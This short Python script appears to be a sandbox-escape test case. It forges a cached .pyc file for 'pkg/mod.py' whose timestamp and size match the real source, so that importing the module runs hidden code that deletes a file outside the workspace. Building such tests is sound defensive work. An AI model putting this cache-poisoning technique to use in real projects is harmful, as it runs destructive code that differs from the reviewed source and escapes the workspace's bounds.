# Cached bytecode that claims to belong to a harmless module of the workspace.
# damage: deleted
import importlib._bootstrap_external as loading
import importlib.util
import os
import sys

source = os.stat("pkg/mod.py")
code = compile("import os\nos.unlink('../outside/victim.txt')\n", "pkg/mod.py", "exec")
cached = importlib.util.cache_from_source(os.path.abspath("pkg/mod.py"))
os.makedirs(os.path.dirname(cached), exist_ok=True)
with open(cached, "wb") as file:
    file.write(loading._code_to_timestamp_pyc(code, int(source.st_mtime), source.st_size))
sys.path.insert(0, os.getcwd())
import pkg.mod
